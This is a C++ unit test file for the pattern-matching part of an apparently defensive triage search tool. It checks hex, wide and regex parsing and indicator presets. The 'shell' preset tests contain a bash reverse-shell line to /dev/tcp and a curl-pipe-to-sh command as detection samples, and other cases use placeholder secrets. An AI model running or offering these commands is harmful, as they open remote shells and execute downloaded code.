#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <re2/re2.h>

#include "lib/search/pattern.h"
#include "lib/search/prefilter.h"

namespace ctriage::search {
namespace {

using testing::HasSubstr;
using namespace std::string_literals;

TEST(Pattern, Table) {
  const struct {
    const char* name;
    std::string typed;
    std::string text;  // empty: refused
    bool regex = false;
  } cases[] = {
      {"plain", "hunter2", "hunter2"},
      {"a prefix as text", "text:re:x", "re:x"},
      {"an unknown prefix is text", "http://x", "http://x"},
      {"hex", "hex:6a0258", "\x6a\x02\x58"},
      {"hex with blanks and capitals", "hex:6A 02\t58", "\x6a\x02\x58"},
      {"hex with any", "hex:6a ?? 58", "\\x6a(?s:.)\\x58", true},
      {"hex, odd", "hex:6a0", ""},
      {"hex, half a byte any", "hex:6a 0? 58", ""},
      {"hex, half a byte alone", "hex:6 a0", ""},
      {"hex, any at an end", "hex:6a ??", ""},
      {"hex, no digit", "hex:zz", ""},
      {"hex, nothing", "hex:", ""},
      {"wide", "wide:ab", "a\0b\0"s},
      {"wide beyond ASCII", "wide:\xc3\xa9\xe2\x82\xac", "\xe9\0\xac\x20"s},
      {"wide beyond 16 bits", "wide:\xf0\x9f\x98\x80", "\x3d\xd8\x00\xde"s},
      {"wide of what is no text", "wide:\xff", ""},
      {"regex", "re:a+b", "a+b", true},
      {"regex, broken", "re:a(", ""},
      {"regex that matches nothing", "re:a*", ""},
      {"regex, too large", "re:((a{100}){100}){100}", ""},
      {"nothing", "", ""},
      {"nothing behind a prefix", "text:", ""},
      {"too long", std::string(kMaxPatternBytes + 1, 'x'), ""},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    Patterns patterns({});
    const auto added = patterns.add(c.typed);
    ASSERT_EQ(bool(added), !c.text.empty()) << (added ? "" : added.error().what);
    if (!added) continue;
    ASSERT_EQ(patterns.all().size(), 1U);
    EXPECT_EQ(patterns.all()[0].text, c.text);
    EXPECT_EQ(patterns.all()[0].is_regex, c.regex);
    EXPECT_EQ(patterns.all()[0].name, c.typed);
  }
}

TEST(Pattern, WideAsWell) {
  Patterns patterns({.wide = true});
  for (const char* typed : {"key", "hex:6b", "re:k", "\xff"}) ASSERT_TRUE(patterns.add(typed));
  std::vector<std::string> names;
  for (const Pattern& each : patterns.all()) names.push_back(each.name);
  EXPECT_THAT(names, testing::ElementsAre("key", "wide:key", "hex:6b", "re:k", "\xff"));
}

TEST(Pattern, EachOnceAndWithinLimits) {
  Patterns patterns({});
  for (const char* typed : {"x", "text:x", "hex:78"}) ASSERT_TRUE(patterns.add(typed));
  EXPECT_EQ(patterns.all().size(), 1U);
  for (std::size_t i = 0; i < kMaxRegexes; ++i) ASSERT_TRUE(patterns.add("re:x" + std::to_string(i)));
  auto over = patterns.add("re:one-more");
  ASSERT_FALSE(over);
  EXPECT_EQ(over.error().code, Errc::limit);
  EXPECT_TRUE(patterns.add("one-more"));
}

TEST(Pattern, FilesNameTheLine) {
  Patterns patterns({});
  auto added = patterns.add_file("# a list\n\nfirst.example\r\nhex:zz\n");
  ASSERT_FALSE(added);
  EXPECT_THAT(added.error().what, HasSubstr("line 4"));
  EXPECT_EQ(patterns.all().front().text, "first.example");
  EXPECT_FALSE(patterns.add_file(std::string(kMaxIndicatorBytes + 1, 'x')));
}

TEST(Pattern, Presets) {
  const struct {
    const char* preset;
    std::string_view text;
    std::string found;  // empty: nothing
  } cases[] = {
      {"urls", "get \"https://c2.example:8443/a?b=c\" now", "https://c2.example:8443/a?b=c"},
      {"urls", "https:// is none", ""},
      {"ips", "to 203.0.113.214:443,", "203.0.113.214:443"},
      {"ips", "version 1.2.3.400", ""},
      {"keys", " AWS_SECRET_ACCESS_KEY=AKIAEXAMPLESECRET ", "AWS_SECRET_ACCESS_KEY=AKIAEXAMPLESECRET"},
      {"keys", "-----BEGIN OPENSSH PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----"},
      {"jwt", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln;",
       "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"},
      {"wallets", "pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT.", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"},
      {"shell", "x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
      {"shell", "curl -s http://x/y | sh\n", "curl -s http://x/y | sh"},
      {"http", "GET /a HTTP/1.1\r\n", "GET /a HTTP/1.1"},
      {"http", "\r\nCookie: a=b\r\n", "Cookie: a=b"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.text);
    Patterns patterns({});
    ASSERT_TRUE(patterns.add_preset(c.preset));
    std::string best;
    for (const Pattern& each : patterns.all()) {
      RE2::Options options;
      options.set_encoding(RE2::Options::EncodingLatin1);
      options.set_longest_match(true);
      re2::StringPiece part;
      if (RE2(each.text, options).Match(c.text, 0, c.text.size(), RE2::UNANCHORED, &part, 1) &&
          part.size() > best.size())
        best = std::string(part);
    }
    EXPECT_EQ(best, c.found);
  }
  Patterns none({});
  const auto unknown = none.add_preset("emails");
  ASSERT_FALSE(unknown);
  EXPECT_THAT(unknown.error().what, HasSubstr("urls, ips"));
  // All of them go through Vectorscan: none has to be looked for everywhere.
  Patterns all({});
  for (const char* name : {"urls", "ips", "keys", "jwt", "wallets", "shell", "http"})
    ASSERT_TRUE(all.add_preset(name));
  const auto prefilter = Prefilter::make(all.all());
  if (!prefilter) GTEST_SKIP() << "no Vectorscan";
  for (std::size_t i = 0; i < all.all().size(); ++i) EXPECT_TRUE(prefilter->covers(i)) << all.all()[i].text;
}

TEST(Prefilter, OnlyWhatBothMeanAlike) {
  for (const char* expression :
       {"a+b", "[^a-z]{2,3}", "(?:a|b)\\d\\w\\.\\x41", "\\bx\\s", "a{2}", "^a$", "a(?s:.)b", "[\\]a]"})
    EXPECT_TRUE(common_expression({"", true, expression})) << expression;
  for (const char* expression : {"(?i)a", "(?P<n>a)", "\\S", "[\\s]", "[[:alpha:]]", "\\pL", "\\Qa", "\\C",
                                 "\\z", "\\v", "a{,2}", "[]a]", "\\x{41}", "\xe9", "\\Aa", "\\B\\h"})
    EXPECT_FALSE(common_expression({"", true, expression})) << expression;
  EXPECT_FALSE(common_expression({"", true, "\\xe9", true}));
}

}  // namespace
}  // namespace ctriage::search
